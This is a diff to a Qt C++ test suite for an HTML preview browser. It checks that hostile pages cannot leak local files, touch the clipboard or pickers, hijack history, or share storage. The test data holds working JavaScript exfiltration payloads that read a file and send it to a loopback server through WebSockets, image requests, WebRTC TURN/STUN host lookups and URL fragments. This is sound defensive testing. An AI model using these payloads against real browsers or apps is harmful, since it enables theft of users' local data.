@@ -10,10 +10,22 @@
 #include "support/TestMain.h"
 
 #include <QApplication>
+#include <QClipboard>
+#include <QHostInfo>
 #include <QImage>
+#include <QNetworkDatagram>
+#include <QProcess>
+#include <QSignalSpy>
+#include <QStandardPaths>
 #include <QTemporaryDir>
 #include <QTest>
+#include <QTimer>
 #include <QUdpSocket>
+#include <QWebEngineHistory>
+#include <QWebEngineProfile>
+#include <QWebEngineScriptCollection>
+
+#include <unistd.h>
 
 using namespace BrowserProbe;
 
@@ -31,6 +43,15 @@ private slots:
     void ownFilesShowAndTheNetworkStaysShut();
     void onlyTheUserLeavesThePage_data();
     void onlyTheUserLeavesThePage();
+    void nameLookupsStayInside();
+    void historyStaysOnTheProgramsPage();
+    void clickTouchesNoFileNorClipboard_data();
+    void clickTouchesNoFileNorClipboard();
+    void endlessScriptsGiveWayToTheNextPage_data();
+    void endlessScriptsGiveWayToTheNextPage();
+    void documentsShareNoStorage_data();
+    void documentsShareNoStorage();
+    void newDocumentStartsWithFreshStorage();
     void bothPreviewsAreGuarded();
 
 private:
@@ -111,10 +132,14 @@ void tst_PreviewSafety::hostilePageLearnsAndSendsNothing_data()
         << "var o = document.createElement('object'); o.data = S; o.type = 'text/plain'; document.body.appendChild(o);"
            "setTimeout(function () { var r = ''; try { r = o.contentDocument.body.innerText; } catch (e) {}"
            "  try { navigator.sendBeacon(H + '/beacon', r || 'x'); } catch (e) {} done(r); }, 500);";
-    QTest::newRow("embed read back, sent over a WebSocket")
-        << "var m = document.createElement('embed'); m.src = S; document.body.appendChild(m);"
-           "setTimeout(function () { var r = ''; try { r = m.getSVGDocument().documentElement.textContent; } catch (e) {}"
-           "  try { new WebSocket('ws://127.0.0.1:' + PORT + '/ws?d=' + encodeURIComponent(r)); } catch (e) {} done(r); }, 500);";
+    QTest::newRow("srcdoc frame reads a file, sent over a WebSocket")
+        << "addEventListener('message', function (e) {"
+           "  try { new WebSocket('ws://127.0.0.1:' + PORT + '/ws?d=' + encodeURIComponent(e.data)); } catch (x) {} "
+           "done(e.data); });"
+           "var f = document.createElement('iframe'); f.srcdoc = '<script>var r = \"\"; try { var x = new XMLHttpRequest();"
+           "  x.open(\"GET\", \"' + S + '\", false); x.send(); r = x.responseText; } catch (e) {} parent.postMessage(r, "
+           "\"*\");<' + '/script>';"
+           "document.body.appendChild(f);";
     QTest::newRow("window of a file read back, server opened in a window")
         << "var w = window.open(S); setTimeout(function () { var r = ''; try { r = w.document.body.innerText; } catch (e) {}"
            "  window.open(H + '/open?d=' + encodeURIComponent(r)); done(r); }, 500);";
@@ -182,10 +207,11 @@ void tst_PreviewSafety::hostilePageLearnsAndSendsNothing_data()
            "    if (pc.iceGatheringState === 'complete') done(r); };"
            "  pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });"
            "  setTimeout(function () { done(r); }, 3000); } catch (e) { done(r); }";
-    QTest::newRow("HTML import of a file")
-        << "var l = document.createElement('link'); l.rel = 'import'; l.href = S; document.head.appendChild(l);"
-           "setTimeout(function () { var r = ''; try { r = l.import.body.innerText; } catch (e) {}"
-           "  new Image().src = H + '/img?d=' + encodeURIComponent(r); done(r); }, 300);";
+    QTest::newRow("fresh frame's realm fetches a file, sent as an image")
+        << "var f = document.createElement('iframe'); document.body.appendChild(f);"
+           "f.contentWindow.fetch(S).then(function (a) { return a.text(); }).catch(function () { return ''; }).then(function (r) "
+           "{"
+           "  new Image().src = H + '/img?d=' + encodeURIComponent(r); done(r); });";
     // The page's own scripts run and may read what a local script defines; it still goes nowhere.
     QTest::newRow("local script's value sent as an image")
         << "var s = document.createElement('script'); s.src = F + 'secret.js';"
@@ -278,6 +304,25 @@ void tst_PreviewSafety::onlyTheUserLeavesThePage_data()
         << link.arg(QStringLiteral("href='SERVER/page'")) +
                QStringLiteral("<script>document.getElementById('a').href += '?d=' + document.title;</script>")
         << true << QStringLiteral("hostile.html") << QStringList();
+    // The text writes the address out (here in a comment); the secret rides after the "#".
+    QTest::newRow("script goes to a written address with a fragment on the user's click")
+        << QStringLiteral(
+               "<!-- SERVER/page --><p id='a' style='position:absolute; left:0; top:0; width:300px; height:60px'>text</p>"
+               "<script>addEventListener('mousedown', function () { location = 'SERVER/page#' + document.title; });</script>")
+        << true << QStringLiteral("hostile.html") << QStringList();
+    QTest::newRow("script goes to a written address on the user's click")
+        << QStringLiteral(
+               "<!-- SERVER/page --><p id='a' style='position:absolute; left:0; top:0; width:300px; height:60px'>text</p>"
+               "<script>addEventListener('mousedown', function () { location = 'SERVER/page'; });</script>")
+        << true << QStringLiteral("hostile.html") << QStringList();
+    QTest::newRow("user clicks a link whose fragment a script set")
+        << link.arg(QStringLiteral("href='SERVER/page'")) +
+               QStringLiteral("<script>document.getElementById('a').onmousedown = function () {"
+                              "this.href = this.href + '#' + document.title; };</script>")
+        << true << QStringLiteral("hostile.html") << QStringList();
+    QTest::newRow("user clicks a link written with its fragment")
+        << link.arg(QStringLiteral("href='SERVER/page#part'")) << true << QStringLiteral("SERVER/page#part")
+        << QStringList{QStringLiteral("GET /page HTTP/1.1")};
     QTest::newRow("user clicks a window a script opens")
         << link.arg(QStringLiteral("href='#'")) +
                QStringLiteral("<script>document.getElementById('a').onclick = function (e) { e.preventDefault();"
@@ -325,6 +370,276 @@ void tst_PreviewSafety::onlyTheUserLeavesThePage()
     QCOMPARE(view.url(), expected);
     QCOMPARE(server.requests(), requests);
     QCOMPARE(QApplication::topLevelWidgets(), windows);
+}
+
+// A page that names hosts for the engine to look up (here as TURN and STUN servers of a peer
+// connection, with what it read in their names) makes no name server hear
+// of them. The check runs in a copy of this test with mount and network namespaces of its own:
+// only a loopback interface, and the system's resolver asking the test's name server there.
+void tst_PreviewSafety::nameLookupsStayInside()
+{
+    if (qEnvironmentVariableIsSet("ZORVANE_NAME_SERVER_INSIDE")) {
+        QUdpSocket nameServer;
+        QVERIFY2(nameServer.bind(QHostAddress::LocalHost, 53), qPrintable(nameServer.errorString()));
+        // The stand-in hears what this machine looks up: the program's own lookup reaches it.
+        const int lookup = QHostInfo::lookupHost(QStringLiteral("probe.zorvane-test"), [](const QHostInfo &) {});
+        QTRY_VERIFY_WITH_TIMEOUT(nameServer.hasPendingDatagrams(), timeout);
+        QHostInfo::abortHostLookup(lookup);
+        QTest::qWait(200);
+        while (nameServer.hasPendingDatagrams())
+            nameServer.receiveDatagram();
+
+        const QString html =
+            hostilePage(
+                QStringLiteral("var x = new XMLHttpRequest(); x.open('GET', S, false); var r = 'none';"
+                               "try { x.send(); r = x.responseText; } catch (e) {}"
+                               "var name = 'leak-' + (r || 'none').replace(/[^A-Za-z0-9-]/g, '') + '.zorvane-test';"
+                               "var f = document.createElement('iframe'); document.body.appendChild(f);"
+                               "try { var pc = new f.contentWindow.RTCPeerConnection({iceServers: ["
+                               "  {urls: ['turn:' + name + ':3478?transport=udp', 'turn:' + name + ':3478?transport=tcp'],"
+                               "   username: 'd', credential: 'x'}, {urls: 'stun:stun-' + name + ':3478'}]});"
+                               "  pc.createDataChannel('c'); pc.onicegatheringstatechange = function () {"
+                               "    if (pc.iceGatheringState === 'complete') done(''); };"
+                               "  pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });"
+                               "  setTimeout(function () { done(''); }, 3000); } catch (e) { done(''); }"))
+                .replace(QLatin1String("PORT"), QStringLiteral("9"));
+        const QString path = writePage(QStringLiteral("names.html"), html);
+        PreviewBrowser view;
+        view.resize(400, 300);
+        view.show();
+        // However a page comes by a working peer connection (here the profile's script that
+        // takes its constructor away is gone), the engine looks up no name for it.
+        view.page()->profile()->scripts()->clear();
+        view.showFile(path, html);
+        QTRY_VERIFY_WITH_TIMEOUT(view.title().startsWith(QLatin1String("done:")), timeout);
+        settle();
+        QStringList heard;
+        while (nameServer.hasPendingDatagrams())
+            heard << QString::fromLatin1(nameServer.receiveDatagram().data().toPercentEncoding());
+        QCOMPARE(heard, QStringList());
+        return;
+    }
+    if (::getuid() != 0)
+        QSKIP("needs root for a mount namespace with a name server of the test's own");
+    const QString unshare = QStandardPaths::findExecutable(QStringLiteral("unshare"));
+    const QString ip =
+        QStandardPaths::findExecutable(QStringLiteral("ip"), {QStringLiteral("/usr/sbin"), QStringLiteral("/sbin")});
+    if (unshare.isEmpty() || ip.isEmpty())
+        QSKIP("needs unshare(1) and ip(8) for namespaces of the test's own");
+    writeFile(m_dir.filePath(QStringLiteral("resolv.conf")), "nameserver 127.0.0.1\noptions attempts:1 timeout:1\n");
+    writeFile(m_dir.filePath(QStringLiteral("hosts")), "127.0.0.1 localhost\n");
+    QProcess inside;
+    QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
+    environment.insert(QStringLiteral("ZORVANE_NAME_SERVER_INSIDE"), QStringLiteral("1"));
+    inside.setProcessEnvironment(environment);
+    inside.setProcessChannelMode(QProcess::MergedChannels);
+    inside.start(unshare,
+                 {QStringLiteral("--mount"), QStringLiteral("--net"), QStringLiteral("--propagation"), QStringLiteral("private"),
+                  QStringLiteral("sh"), QStringLiteral("-c"),
+                  QStringLiteral("\"$4\" link set lo up && mount --bind \"$1\" /etc/resolv.conf && "
+                                 "mount --bind \"$2\" /etc/hosts && exec \"$3\" --unit tst_PreviewSafety nameLookupsStayInside"),
+                  QStringLiteral("sh"), m_dir.filePath(QStringLiteral("resolv.conf")), m_dir.filePath(QStringLiteral("hosts")),
+                  QCoreApplication::applicationFilePath(), ip});
+    QVERIFY(inside.waitForStarted());
+    QVERIFY(QTest::qWaitFor([&] { return inside.state() == QProcess::NotRunning; }, 6 * timeout));
+    const QByteArray output = inside.readAll();
+    if (output.startsWith("unshare: ") && inside.exitCode() != 0)
+        QSKIP("this system gives the test no namespaces of its own");
+    QVERIFY2(inside.exitStatus() == QProcess::NormalExit && inside.exitCode() == 0, output.constData());
+}
+
+// A script's step through the history never takes the view off the program's page, whatever
+// the user visited before it.
+void tst_PreviewSafety::historyStaysOnTheProgramsPage()
+{
+    LoopbackServer server;
+    QVERIFY(server.isListening());
+    server.serve(QStringLiteral("/page"), "text/html", "<p>remote page</p>");
+    const QString first =
+        QStringLiteral("<a id='a' href='%1' style='position:absolute; left:0; top:0; width:300px; height:60px'>link</a>")
+            .arg(server.address(QStringLiteral("/page")));
+    const QString firstPath = writePage(QStringLiteral("first.html"), first);
+    PreviewBrowser view;
+    view.resize(400, 300);
+    view.show();
+    QVERIFY(QTest::qWaitForWindowExposed(&view));
+    view.showFile(firstPath, first);
+    QVERIFY(waitShown(&view, QUrl::fromLocalFile(firstPath)));
+    QTRY_VERIFY(view.focusProxy());
+    QTRY_COMPARE_WITH_TIMEOUT(evaluate(&view, QStringLiteral("document.getElementById('a').offsetWidth")).toInt(), 300, timeout);
+    QTest::mouseClick(view.focusProxy(), Qt::LeftButton, {}, QPoint(20, 20));
+    QVERIFY(waitShown(&view, QUrl(server.address(QStringLiteral("/page")))));
+    QCOMPARE(server.requests().size(), 1);
+
+    const QString hostile =
+        QStringLiteral("<title>t</title><script>onload = function () { setTimeout(function () {"
+                       " history.go(-1); history.go(-2); history.back(); history.forward(); }, 0); };</script>");
+    const QString path = writePage(QStringLiteral("hostile.html"), hostile);
+    view.showFile(path, hostile);
+    QVERIFY(waitShown(&view, QUrl::fromLocalFile(path)));
+    settle();
+    QCOMPARE(view.url(), QUrl::fromLocalFile(path));
+    QVERIFY(!view.history()->canGoBack());
+    QCOMPARE(server.requests().size(), 1);
+}
+
+void tst_PreviewSafety::clickTouchesNoFileNorClipboard_data()
+{
+    QTest::addColumn<QString>("onClick");
+
+    QTest::newRow("upload field") << QStringLiteral("document.getElementById('f').click();");
+    QTest::newRow("folder upload") << QStringLiteral(
+        "var f = document.getElementById('f'); f.webkitdirectory = true; f.click();");
+    QTest::newRow("open picker") << QStringLiteral("window.showOpenFilePicker().then(function () { done('opened'); });");
+    QTest::newRow("save picker") << QStringLiteral(
+        "window.showSaveFilePicker().then(function (h) { done('saving'); return h.createWritable(); })"
+        ".then(function (w) { return w.close(); });");
+    QTest::newRow("folder picker") << QStringLiteral("window.showDirectoryPicker().then(function () { done('opened'); });");
+    QTest::newRow("copy command") << QStringLiteral(
+        "var t = document.createElement('textarea'); t.value = 'PAGE'; document.body.appendChild(t);"
+        "t.select(); document.execCommand('copy');");
+}
+
+// A click lets a page ask for files or write to the clipboard: no dialog comes up, no file is
+// touched and the clipboard keeps what it held.
+void tst_PreviewSafety::clickTouchesNoFileNorClipboard()
+{
+    QFETCH(QString, onClick);
+
+    const QString html =
+        QStringLiteral("<title>t</title><input type='file' id='f' style='display:none'>"
+                       "<p id='p' style='position:absolute; left:0; top:0; width:300px; height:60px'>text</p>"
+                       "<script>function done(r) { document.title = r; }"
+                       "document.getElementById('p').onclick = function () { try { %1 } catch (e) {} };</script>")
+            .arg(onClick);
+    const QString path = writePage(QStringLiteral("hostile.html"), html);
+    PreviewBrowser view;
+    view.resize(400, 300);
+    view.show();
+    QVERIFY(QTest::qWaitForWindowExposed(&view));
+    const QWidgetList windows = QApplication::topLevelWidgets();
+    // A dialog that comes up anyway is noted and closed, so the test goes on.
+    QStringList dialogs;
+    QTimer watch;
+    QObject::connect(&watch, &QTimer::timeout, [&] {
+        for (QWidget *widget : QApplication::topLevelWidgets()) {
+            if (!windows.contains(widget) && widget->isVisible()) {
+                dialogs << QString::fromLatin1(widget->metaObject()->className());
+                widget->close();
+            }
+        }
+    });
+    watch.start(50);
+    QApplication::clipboard()->setText(QStringLiteral("before"));
+    view.showFile(path, html);
+    QVERIFY(waitShown(&view, QUrl::fromLocalFile(path)));
+    QTRY_VERIFY(view.focusProxy());
+    QTRY_COMPARE_WITH_TIMEOUT(evaluate(&view, QStringLiteral("document.getElementById('p').offsetWidth")).toInt(), 300, timeout);
+    QTest::mouseClick(view.focusProxy(), Qt::LeftButton, {}, QPoint(20, 20));
+    settle();
+    QCOMPARE(dialogs, QStringList());
+    QCOMPARE(view.title(), QStringLiteral("t"));
+    QCOMPARE(QApplication::clipboard()->text(), QStringLiteral("before"));
+}
+
+void tst_PreviewSafety::endlessScriptsGiveWayToTheNextPage_data()
+{
+    QTest::addColumn<QString>("script");
+
+    QTest::newRow("endless loop while loading") << QStringLiteral("for (;;) {}");
+    QTest::newRow("endless loop once loaded")
+        << QStringLiteral("onload = function () { setTimeout(function () { for (;;) {} }, 0); };");
+    QTest::newRow("alert loop") << QStringLiteral("for (;;) alert('again');");
+    QTest::newRow("confirm loop") << QStringLiteral("while (confirm('again')) {}");
+    QTest::newRow("prompt loop") << QStringLiteral("for (;;) prompt('again');");
+}
+
+// A page whose scripts never end does not keep the next text from showing.
+void tst_PreviewSafety::endlessScriptsGiveWayToTheNextPage()
+{
+    QFETCH(QString, script);
+
+    const QString endless = QStringLiteral("<title>endless</title><script>%1</script>").arg(script);
+    const QString fixed = QStringLiteral("<title>fixed</title><p>fixed</p>");
+    const QString path = writePage(QStringLiteral("endless.html"), endless);
+    PreviewBrowser view;
+    view.resize(400, 300);
+    view.show();
+    QSignalSpy tornDown(&view, &PreviewBrowser::pageTornDown);
+    view.showFile(path, endless);
+    QTRY_VERIFY_WITH_TIMEOUT(!tornDown.isEmpty() || (view.url() == QUrl::fromLocalFile(path) && !view.page()->isLoading()),
+                             timeout);
+
+    writePage(QStringLiteral("endless.html"), fixed);
+    view.showFile(path, fixed);
+    QTRY_COMPARE_WITH_TIMEOUT(view.title(), QStringLiteral("fixed"), 3 * timeout);
+    QCOMPARE(bodyText(&view), QStringLiteral("fixed"));
+}
+
+void tst_PreviewSafety::documentsShareNoStorage_data()
+{
+    QTest::addColumn<bool>("anotherDocument");
+    QTest::addColumn<QString>("seen");
+
+    QTest::newRow("same document, refreshed") << false << QStringLiteral("local,session,indexed,name");
+    QTest::newRow("another document") << true << QStringLiteral("");
+}
+
+namespace {
+
+// A page that keeps a mark in every store a page has, and one that lists the marks it finds.
+const QString storageWriter =
+    QStringLiteral("<title>t</title><script>localStorage.setItem('mark', 'local'); sessionStorage.setItem('mark', 'session');"
+                   "window.name = 'name'; var r = indexedDB.open('marks', 1);"
+                   "r.onupgradeneeded = function () { r.result.createObjectStore('s').put('indexed', 'mark'); };"
+                   "r.onsuccess = function () { document.title = 'kept'; };</script>");
+const QString storageReader = QStringLiteral(
+    "<title>t</title><script>var seen = [];"
+    "if (localStorage.getItem('mark')) seen.push('local'); if (sessionStorage.getItem('mark')) seen.push('session');"
+    "var r = indexedDB.open('marks', 1); r.onupgradeneeded = function () { r.result.createObjectStore('s'); };"
+    "r.onsuccess = function () { var g = r.result.transaction('s').objectStore('s').get('mark');"
+    "  g.onsuccess = function () { if (g.result) seen.push('indexed'); if (window.name) seen.push('name');"
+    "    document.title = 'seen:' + seen.join(); }; };</script>");
+
+} // namespace
+
+void tst_PreviewSafety::documentsShareNoStorage()
+{
+    QFETCH(bool, anotherDocument);
+    QFETCH(QString, seen);
+
+    const QString path = writePage(QStringLiteral("storage.html"), storageWriter);
+    PreviewBrowser view;
+    view.resize(400, 300);
+    view.show();
+    view.showFile(path, storageWriter);
+    QTRY_COMPARE_WITH_TIMEOUT(view.title(), QStringLiteral("kept"), timeout);
+    if (anotherDocument)
+        view.startDocument();
+    writePage(QStringLiteral("storage.html"), storageReader);
+    view.showFile(path, storageReader);
+    QTRY_VERIFY_WITH_TIMEOUT(view.title().startsWith(QLatin1String("seen:")), timeout);
+    QCOMPARE(view.title(), QStringLiteral("seen:") + seen);
+}
+
+// New and Open give the previews a fresh start.
+void tst_PreviewSafety::newDocumentStartsWithFreshStorage()
+{
+    ScriptedHost host;
+    frmMainWin w(host);
+    w.Form_Load();
+    w.show();
+    w.r1().setText(storageWriter);
+    w.RefreshQuickPreview();
+    auto *qprevbr = w.findChild<PreviewBrowser *>(QStringLiteral("qprevbr"));
+    QVERIFY(qprevbr);
+    QTRY_COMPARE_WITH_TIMEOUT(qprevbr->title(), QStringLiteral("kept"), timeout);
+
+    w.ResetDocument();
+    w.r1().setText(storageReader);
+    w.RefreshQuickPreview();
+    QTRY_VERIFY_WITH_TIMEOUT(qprevbr->title().startsWith(QLatin1String("seen:")), timeout);
+    QCOMPARE(qprevbr->title(), QStringLiteral("seen:"));
 }
 
 void tst_PreviewSafety::bothPreviewsAreGuarded()
